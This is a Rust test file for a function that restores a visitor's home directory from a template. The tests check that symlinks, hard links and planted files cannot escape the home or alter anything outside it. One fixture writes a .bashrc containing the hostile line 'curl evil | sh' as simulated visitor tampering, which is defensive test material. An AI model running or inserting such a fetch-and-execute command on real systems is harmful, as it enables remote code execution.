//! The restore on a temporary tree, as the visitor could have left it. The tests run as root
//! here (as the service does); what needs root (ownership to another uid, `chattr +i`) is
//! skipped, with a line on standard error, when they do not.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::process::Command;

use super::*;

const VISITOR: Owner = Owner {
    uid: 4242,
    gid: 4343,
};

fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

fn owner() -> Owner {
    if is_root() {
        VISITOR
    } else {
        Owner {
            uid: nix::unistd::geteuid().as_raw(),
            gid: nix::unistd::getegid().as_raw(),
        }
    }
}

fn write(path: &Path, content: &str, mode: u32) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, content).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// A template: dotfiles, a browser profile, an autostart entry, a link, a read-only directory,
/// a name that is not UTF-8.
fn template(root: &Path) -> PathBuf {
    let t = root.join("modele");
    write(&t.join(".bashrc"), "# modèle\n", 0o644);
    write(
        &t.join(".mozilla/firefox/profil/prefs.js"),
        "user_pref(1);\n",
        0o600,
    );
    write(
        &t.join(".config/autostart/kiosque.desktop"),
        "[Desktop Entry]\n",
        0o644,
    );
    write(&t.join("Documents/lisez-moi.txt"), "Bienvenue\n", 0o644);
    write(&t.join("lecture-seule/fichier"), "fixe\n", 0o444);
    fs::set_permissions(t.join("lecture-seule"), fs::Permissions::from_mode(0o555)).unwrap();
    fs::create_dir_all(t.join("Téléchargements")).unwrap();
    symlink("Documents/lisez-moi.txt", t.join("raccourci")).unwrap();
    fs::write(t.join(OsStr::from_bytes(b"caf\xe9.txt")), "latin-1\n").unwrap();
    fs::set_permissions(&t, fs::Permissions::from_mode(0o750)).unwrap();
    t
}

/// Every entry under `root`: relative path, kind, mode, owner, content or link target.
fn snapshot(root: &Path) -> Vec<String> {
    let mut out = Vec::new();
    fn walk(root: &Path, dir: &Path, out: &mut Vec<String>, owners: bool) {
        let mut entries: Vec<_> = fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        entries.sort();
        for path in entries {
            let meta = fs::symlink_metadata(&path).unwrap();
            let rel = path.strip_prefix(root).unwrap().display().to_string();
            let owner = if owners {
                format!(" {}:{}", meta.uid(), meta.gid())
            } else {
                String::new()
            };
            let mode = meta.mode() & 0o7777;
            if meta.file_type().is_symlink() {
                let target = fs::read_link(&path).unwrap();
                out.push(format!("{rel} -> {}{owner}", target.display()));
            } else if meta.is_dir() {
                out.push(format!("{rel}/ {mode:o}{owner}"));
                walk(root, &path, out, owners);
            } else {
                let content = String::from_utf8_lossy(&fs::read(&path).unwrap()).into_owned();
                out.push(format!("{rel} {mode:o}{owner} {content:?}"));
            }
        }
    }
    walk(root, root, &mut out, false);
    out
}

fn owners(root: &Path) -> Vec<(String, u32, u32)> {
    let mut out = Vec::new();
    fn walk(root: &Path, dir: &Path, out: &mut Vec<(String, u32, u32)>) {
        for entry in fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            let meta = fs::symlink_metadata(&path).unwrap();
            let rel = path.strip_prefix(root).unwrap().display().to_string();
            out.push((rel, meta.uid(), meta.gid()));
            if meta.is_dir() {
                walk(root, &path, out);
            }
        }
    }
    walk(root, root, &mut out);
    out
}

#[test]
fn a_used_home_becomes_the_template_again_without_touching_anything_outside() {
    let dir = tempfile::tempdir().unwrap();
    let t = template(dir.path());
    let before_template = snapshot(&t);
    let outside = dir.path().join("dehors");
    write(&outside.join("passwd"), "root:x:0:0\n", 0o644);
    write(
        &dir.path().join("autre/fichier"),
        "à quelqu'un d'autre\n",
        0o644,
    );
    let home = dir.path().join("visiteur");

    // What a visitor leaves: downloads, a changed file with other rights, a keyring, a symlink
    // to outside where the template has a directory, a symlink to outside where it has a file,
    // a symlink to outside that is extra, a hard link to an outside file where the template has
    // a file, a fifo, a non-UTF-8 name, a directory where the template has a file.
    write(&home.join("Téléchargements/facture.pdf"), "%PDF", 0o644);
    write(&home.join(".bashrc"), "curl evil | sh\n", 0o777);
    write(
        &home.join(".local/share/keyrings/login.keyring"),
        "secret",
        0o600,
    );
    write(
        &home.join(".config/autostart/evil.desktop"),
        "[Desktop Entry]\n",
        0o644,
    );
    symlink(&outside, home.join("Documents")).unwrap();
    symlink(outside.join("passwd"), home.join("raccourci")).unwrap();
    symlink(&outside, home.join("evil")).unwrap();
    fs::hard_link(
        dir.path().join("autre/fichier"),
        home.join(OsStr::from_bytes(b"caf\xe9.txt")),
    )
    .unwrap();
    nix::unistd::mkfifo(&home.join("tube"), Mode::from_bits_truncate(0o644)).unwrap();
    fs::write(home.join(OsStr::from_bytes(b"\xff\xfe")), "x").unwrap();
    fs::create_dir_all(home.join("lecture-seule/fichier/dedans")).unwrap();
    let outside_before = snapshot(&outside);
    let other_owner = fs::metadata(dir.path().join("autre/fichier"))
        .unwrap()
        .uid();

    let report = restore(&t, &home, owner(), &[]).expect("restored");
    assert!(report.failures.is_empty(), "{report:?}");
    assert!(report.removed >= 8, "{report:?}");

    // The home is the template, content, kinds and modes.
    assert_eq!(snapshot(&home), before_template);
    // Everything belongs to the visitor (links included, not their targets).
    assert!(
        owners(&home)
            .iter()
            .all(|(_, uid, gid)| *uid == owner().uid && *gid == owner().gid),
        "{:?}",
        owners(&home)
    );
    let home_meta = fs::metadata(&home).unwrap();
    assert_eq!(home_meta.mode() & 0o7777, 0o750);
    assert_eq!(
        (home_meta.uid(), home_meta.gid()),
        (owner().uid, owner().gid)
    );
    // Nothing outside moved: not through the symlinks, not through the hard link.
    assert_eq!(snapshot(&outside), outside_before);
    assert_eq!(
        fs::read_to_string(dir.path().join("autre/fichier")).unwrap(),
        "à quelqu'un d'autre\n"
    );
    let other = fs::metadata(dir.path().join("autre/fichier")).unwrap();
    assert_eq!(other.uid(), other_owner, "the outside file was not chowned");
    assert_eq!(other.nlink(), 1, "the home's name for it is gone");
    // The template itself is untouched.
    assert_eq!(snapshot(&t), before_template);

    // Idempotent: a second restore changes nothing and writes nothing.
    let again = restore(&t, &home, owner(), &[]).expect("restored again");
    assert_eq!((again.removed, again.written), (0, 0), "{again:?}");
    assert_eq!(snapshot(&home), before_template);
}

#[test]
fn a_missing_home_is_created_and_kept_paths_stay() {
    let dir = tempfile::tempdir().unwrap();
    let t = template(dir.path());
    let home = dir.path().join("neuf");
    restore(&t, &home, owner(), &[]).unwrap();
    assert_eq!(snapshot(&home), snapshot(&t));

    write(&home.join(".cache/fontconfig/cache"), "garde", 0o644);
    write(&home.join(".cache/autre"), "part", 0o644);
    let keep = [PathBuf::from(".cache/fontconfig")];
    restore(&t, &home, owner(), &keep).unwrap();
    assert_eq!(
        fs::read_to_string(home.join(".cache/fontconfig/cache")).unwrap(),
        "garde"
    );
    assert!(!home.join(".cache/autre").exists());
}

#[test]
fn a_home_that_is_a_symlink_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let t = template(dir.path());
    let outside = dir.path().join("dehors");
    write(&outside.join("fichier"), "intact", 0o644);
    let home = dir.path().join("lien");
    symlink(&outside, &home).unwrap();
    let err = restore(&t, &home, owner(), &[]).unwrap_err();
    assert!(matches!(err, RestoreError::Home { .. }), "{err}");
    assert_eq!(
        fs::read_to_string(outside.join("fichier")).unwrap(),
        "intact"
    );
    assert!(!outside.join(".bashrc").exists());
}

#[test]
fn a_missing_template_touches_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("visiteur");
    write(&home.join("garde"), "x", 0o644);
    let err = restore(&dir.path().join("absent"), &home, owner(), &[]).unwrap_err();
    assert!(matches!(err, RestoreError::Template { .. }), "{err}");
    assert!(home.join("garde").exists());
}

/// `chattr +i` makes an entry that even root cannot delete: the failure names it, and the rest
/// of the home is restored all the same.
#[test]
fn an_undeletable_entry_is_reported_and_the_rest_is_restored() {
    if !is_root() {
        eprintln!("skipped: chattr +i needs root");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let t = template(dir.path());
    let home = dir.path().join("visiteur");
    write(&home.join("coince/fichier"), "x", 0o644);
    write(&home.join("autre-extra"), "x", 0o644);
    write(&home.join(".bashrc"), "modifié", 0o644);
    let stuck = home.join("coince/fichier");
    let chattr = Command::new("chattr").arg("+i").arg(&stuck).status();
    if !chattr.is_ok_and(|s| s.success()) {
        eprintln!("skipped: chattr +i is not supported here");
        return;
    }
    let result = restore(&t, &home, owner(), &[]);
    let _ = Command::new("chattr").arg("-i").arg(&stuck).status();
    let Err(RestoreError::Incomplete { report }) = result else {
        panic!("expected a failure, got {result:?}");
    };
    assert_eq!(report.failures.len(), 1, "{report:?}");
    assert_eq!(report.failures[0].path, PathBuf::from("coince/fichier"));
    assert_eq!(report.failures[0].errno, Errno::EPERM);
    assert!(!home.join("autre-extra").exists());
    assert_eq!(
        fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# modèle\n"
    );
    assert!(home.join("Documents/lisez-moi.txt").exists());

    // Once the entry can go, a retry succeeds.
    restore(&t, &home, owner(), &[]).expect("retry");
    assert_eq!(snapshot(&home), snapshot(&t));
}

#[test]
fn a_directory_too_deep_is_reported_not_walked() {
    let dir = tempfile::tempdir().unwrap();
    let t = template(dir.path());
    let home = dir.path().join("visiteur");
    let mut deep = home.join("profond");
    for _ in 0..MAX_DEPTH + 2 {
        deep.push("d");
    }
    fs::create_dir_all(&deep).unwrap();
    let Err(RestoreError::Incomplete { report }) = restore(&t, &home, owner(), &[]) else {
        panic!("expected a failure");
    };
    assert_eq!(report.failures.len(), 1, "{report:?}");
    assert_eq!(report.failures[0].errno, Errno::ELOOP);
    assert!(home.join(".bashrc").exists());
}
